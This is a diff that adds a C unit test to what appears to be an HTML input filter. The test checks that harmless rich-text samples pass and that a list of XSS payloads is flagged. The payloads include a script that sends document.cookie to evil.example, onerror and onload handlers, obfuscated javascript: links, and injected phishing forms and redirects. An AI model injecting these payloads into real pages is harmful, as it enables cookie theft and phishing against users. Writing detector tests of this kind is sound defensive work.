@@ -108,6 +108,76 @@ static void test_texts(void **state) {
       fail_msg("%s: nothing", attacks[i]);
 }
 
+/* What editors and mail programs make of text, video and formulas in it; and what runs in it all the same. */
+static void test_rich(void **state) {
+  /* clang-format off */
+  static const char *const harmless[] = {
+    "<p>培训视频</p><p><iframe src=\"https://player.bilibili.com/player.html?bvid=BV1xx411c7mD&page=1\" w"
+      "idth=\"640\" height=\"360\" frameborder=\"0\" allowfullscreen=\"allowfullscreen\" scrolling=\"no"
+      "\"></iframe></p><p>请于周五前完成学习。</p>",
+    "<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-"
+      "-><p class=\"MsoNormal\"><b><span style=\"mso-spacerun:'yes';font-family:宋体;font-size:10.5pt\">关"
+      "于开展反洗钱培训的通知<o:p></o:p></span></b></p><p class=\"MsoNormal\"><span lang=\"EN-US\">1.</span>时间</p>"
+      "<style>@font-face{font-family:\"Times New Roman\";} p.MsoNormal{margin:0pt;}</style>",
+    "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:w=\"urn:schemas-microsoft-com:of"
+      "fice:word\"><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"><meta n"
+      "ame=\"Generator\" content=\"Microsoft Word 15\"><style><!-- p.MsoNormal {margin:0cm;} --></style"
+      "></head><body lang=\"ZH-CN\" link=\"#0563C1\"><div class=\"WordSection1\"><p class=\"MsoNormal\""
+      ">Hello team,<o:p></o:p></p><p>please see the attached.</p></div></body></html>",
+    "<p>利率公式 <math xmlns=\"http://www.w3.org/1998/Math/MathML\"><mi>r</mi><mo>=</mo><mfrac><mi>i</mi>"
+      "<mi>p</mi></mfrac></math> 如上。</p><p>说明文字说明文字。</p>",
+    "<p>图示</p><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"20\" height=\"20\" viewBox=\"0 0 20 2"
+      "0\"><circle cx=\"10\" cy=\"10\" r=\"8\" fill=\"#0a0\"/><path d=\"M0 0L10 10\"/></svg><p>绿色为正常。</"
+      "p>",
+    "<div class=\"form-group\"><label for=\"n\">姓名</label><input type=\"text\" id=\"n\" name=\"name\""
+      " class=\"form-control\" placeholder=\"请输入\"></div><div class=\"form-group\"><label>性别</label><se"
+      "lect name=\"sex\"><option value=\"1\">男</option><option value=\"2\">女</option></select></div><bu"
+      "tton type=\"submit\" class=\"btn btn-primary\">提交</button>",
+    "<!DOCTYPE html><html><head><title>账单</title><style type=\"text/css\">body{font-size:14px}</style"
+      "></head><body><table width=\"600\"><tr><td>尊敬的${name}：</td></tr><tr><td>您的账单金额为 {{amount}} 元</td"
+      "></tr></table></body></html>",
+    "<ul data-type=\"taskList\"><li data-checked=\"true\"><label><input type=\"checkbox\" checked=\"c"
+      "hecked\"><span></span></label><div><p>核对资料</p></div></li><li><label><input type=\"checkbox\"></l"
+      "abel><div><p>提交审批</p></div></li></ul>",
+    "<p>示例：</p><pre class=\"ql-syntax\" spellcheck=\"false\">&lt;script&gt;alert(1)&lt;/script&gt;\n&"
+      "lt;div onclick=\"go()\"&gt;</pre><p>这样写会有 XSS 风险，请注意转义处理。</p>",
+    "<p>介绍</p><p><embed type=\"application/x-shockwave-flash\" class=\"edui-faked-video\" pluginspage"
+      "=\"http://www.macromedia.com/go/getflashplayer\" src=\"http://player.youku.com/player.php/sid/x/"
+      "v.swf\" width=\"420\" height=\"280\" wmode=\"transparent\" play=\"true\" loop=\"false\" menu=\"f"
+      "alse\"/></p><p>结束语在此。</p>",
+    "<link rel=\"stylesheet\" href=\"/css/a.css\"><div class=\"x\"><h3>标题</h3><p>内容内容内容</p></div>",
+    "<p style=\"scroll-behavior: smooth\">a</p><p>overscroll-behavior: contain</p><ul><li>words</li></ul>",
+  };
+  static const char *const attacks[] = {
+    "<p>hello <strong>world</strong></p><ul><li>a</li></ul><script>new Image().src=\"//evil.example/?"
+      "c=\"+document.cookie</script><p>bye</p>",
+    "<p>hello <strong>world</strong> more text</p><p><img src=x onerror=alert(1)></p><p>bye</p><ul><li>a</li></ul>",
+    "<p>hello <strong>world</strong> text</p><p><a href=\"javascript:alert(document.cookie)\">click</"
+      "a></p><ul><li>a</li></ul>",
+    "<p>hello <strong>world</strong></p><p>text</p><iframe src=\"javascript:parent.x()\"></iframe><p>x</p>",
+    "<p>hello <strong>world</strong></p><p>text</p><iframe srcdoc=\"<script>alert(1)</script>\"></iframe><p>x</p>",
+    "<p>hello <strong>world</strong></p><p>text</p><svg/onload=alert(1)><p>x</p>",
+    "<iframe src=\"https://evil.example/phish\"></iframe>",
+    "<p>hello <strong>world</strong></p><p>text</p><meta http-equiv=\"refresh\" content=\"0;url=https"
+      "://evil.example\"><p>x</p>",
+    "<p>hello <strong>world</strong></p><p>text</p><base href=\"https://evil.example/\"><p>x</p>",
+    "<p>hello</p><form action=\"https://evil.example/login\" method=post><input name=pwd type=password></form>",
+    "<p>hello <strong>world</strong></p><p>t</p><svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+    "<p>a</p><p>b</p><p>c text text</p><style>@import \"http://evil.example/x.css\";</style>",
+    "<p>a</p><p>b</p><p>c text text</p><object data=\"http://evil.example/x.swf\"></object>",
+    "&lt;p&gt;a&lt;/p&gt;&lt;p&gt;b words words&lt;/p&gt;&lt;p&gt;c&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;",
+    "<p>a</p><p>words and words</p><p>b</p><a href=\"java&#115;cript:alert(1)\">c</a>",
+  };
+  /* clang-format on */
+  for (size_t i = 0; i < sizeof harmless / sizeof *harmless; i++) {
+    const char *id = judge_named(*state, PLACE_BODY, "content", harmless[i], NULL, NULL);
+    if (*id) fail_msg("%s: %s", harmless[i], id);
+  }
+  for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
+    if (strcmp(judge_named(*state, PLACE_BODY, "content", attacks[i], NULL, NULL), "xss") != 0)
+      fail_msg("%s: nothing", attacks[i]);
+}
+
 /* A good password looks like any language by chance. */
 static void test_passwords(void **state) {
   assert_string_equal(judge_named(*state, PLACE_BODY, "password", "^90b)/Y#?0", NULL, NULL), "");
@@ -188,9 +258,9 @@ static void test_names(void **state) {
 }
 
 int main(void) {
-  const struct CMUnitTest tests[] = {cmocka_unit_test(test_attacks), cmocka_unit_test(test_ordinary),
-                                     cmocka_unit_test(test_texts),   cmocka_unit_test(test_passwords),
-                                     cmocka_unit_test(test_outcome), cmocka_unit_test(test_anomalies),
-                                     cmocka_unit_test(test_overlap), cmocka_unit_test(test_names)};
+  const struct CMUnitTest tests[] = {
+      cmocka_unit_test(test_attacks),   cmocka_unit_test(test_ordinary), cmocka_unit_test(test_texts),
+      cmocka_unit_test(test_passwords), cmocka_unit_test(test_outcome),  cmocka_unit_test(test_anomalies),
+      cmocka_unit_test(test_overlap),   cmocka_unit_test(test_names),    cmocka_unit_test(test_rich)};
   return cmocka_run_group_tests(tests, setup, teardown);
 }
